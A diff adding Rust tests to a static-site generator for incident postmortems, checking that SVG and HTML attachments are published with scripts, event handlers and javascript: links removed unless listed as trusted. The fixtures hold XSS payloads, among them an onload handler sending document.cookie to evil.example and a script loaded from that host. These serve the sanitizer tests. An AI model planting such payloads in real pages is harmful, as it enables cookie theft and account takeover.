@@ -3595,3 +3595,98 @@ fn a_postmortem_nothing_else_dates_is_dated_by_the_day_git_first_recorded_it() {
     assert!(said.contains("shallow-history"), "{said}");
     assert!(said.contains("git fetch --unshallow"), "{said}");
 }
+
+#[test]
+fn an_svg_or_html_attachment_is_published_without_its_scripts_and_one_without_any_byte_for_byte() {
+    let chart = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"   width='40' height=\"20\">\n  <a href=\"https://example.org/\"><rect width=\"40\" height=\"20\" fill=\"#09c\"/></a>\n</svg>\n";
+    let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\" onload=\"fetch('//evil.example/'+document.cookie)\">\n  <script>alert(document.domain)</script>\n  <rect width=\"40\" height=\"20\" fill=\"#09c\"/>\n  <a href=\"javascript:alert(1)\"><text y=\"15\">map</text></a>\n</svg>\n";
+    let report = "<!DOCTYPE html>\n<html lang=\"en\"><head><title>Load test</title><style>td{color:#333}</style></head>\n<body><table><tr><td onmouseover=\"alert(1)\">p99</td></tr></table>\n<script src=\"https://evil.example/x.js\"></script></body></html>\n";
+    let safe = "<!DOCTYPE html>\n<html><head><title>Load test</title></head><body><p>p99 doubled</p></body></html>\n";
+    let site = Site::with(&[
+        (
+            "content/postmortems/2024-03-01-outage.md",
+            "# Outage\n\n![the service map](chart.svg)\n\nSee the [diagram](diagram.svg), the [report](report.html) and the [summary](safe.htm).\n",
+        ),
+        ("content/postmortems/chart.svg", chart),
+        ("content/postmortems/diagram.svg", diagram),
+        ("content/postmortems/report.html", report),
+        ("content/postmortems/safe.htm", safe),
+    ]);
+    let o = site.build();
+    assert!(o.status.success(), "{}", stderr(&o));
+    let published = |name: &str| {
+        std::fs::read_to_string(site.out.join("incidents/2024-03-01-outage").join(name)).unwrap()
+    };
+    // Nothing unsafe: byte for byte.
+    assert_eq!(published("chart.svg"), chart);
+    assert_eq!(published("safe.htm"), safe);
+    // The script, the handler and the URL are cut out; the picture is as written.
+    assert_eq!(
+        published("diagram.svg"),
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\">\n  \n  <rect width=\"40\" height=\"20\" fill=\"#09c\"/>\n  <a><text y=\"15\">map</text></a>\n</svg>\n"
+    );
+    let html = published("report.html");
+    assert!(
+        html.contains(
+            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\">"
+        ),
+        "{html}"
+    );
+    assert!(html.contains("<style>td{color:#333}</style>"), "{html}");
+    assert!(html.contains("<td>p99</td>"), "{html}");
+    assert!(
+        !html.contains("alert") && !html.contains("<script"),
+        "{html}"
+    );
+    // The authors' files are left as they are, and build says what it left out, where.
+    for (name, text) in [
+        ("chart.svg", chart),
+        ("diagram.svg", diagram),
+        ("report.html", report),
+    ] {
+        let source = site.root.join("content/postmortems").join(name);
+        assert_eq!(std::fs::read_to_string(source).unwrap(), text);
+    }
+    let err = stderr(&o);
+    for place in [
+        "content/postmortems/diagram.svg:1:64",
+        "content/postmortems/diagram.svg:2:3",
+        "content/postmortems/diagram.svg:4:12",
+        "content/postmortems/report.html:3:22",
+        "content/postmortems/report.html:4:1",
+    ] {
+        assert!(err.contains(place), "{place} in {err}");
+    }
+    assert_eq!(err.matches("unsafe-attachment").count(), 5, "{err}");
+}
+
+#[test]
+fn an_attachment_named_in_trusted_attachments_is_published_with_its_scripts() {
+    let flame = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"init(evt)\"><script>function init(e) {}</script><rect width=\"9\" height=\"9\"/></svg>\n";
+    let site = Site::with(&[
+        (
+            "hindsight.toml",
+            "trusted_attachments = [\"profiles/*.svg\"]\n",
+        ),
+        (
+            "content/2024-03-01-slow.md",
+            "# Slow checkout\n\nThe [flame graph](profiles/flame.svg) and the [copy](flame.svg).\n",
+        ),
+        ("content/profiles/flame.svg", flame),
+        ("content/flame.svg", flame),
+    ]);
+    let o = site.build();
+    assert!(o.status.success(), "{}", stderr(&o));
+    let trusted = std::fs::read_to_string(
+        site.out
+            .join("incidents/2024-03-01-slow/profiles/flame.svg"),
+    )
+    .unwrap();
+    assert_eq!(trusted, flame);
+    let other =
+        std::fs::read_to_string(site.out.join("incidents/2024-03-01-slow/flame.svg")).unwrap();
+    assert!(!other.contains("<script"), "{other}");
+    let err = stderr(&o);
+    assert!(!err.contains("profiles/flame.svg"), "{err}");
+    assert!(err.contains("content/flame.svg:1:"), "{err}");
+}
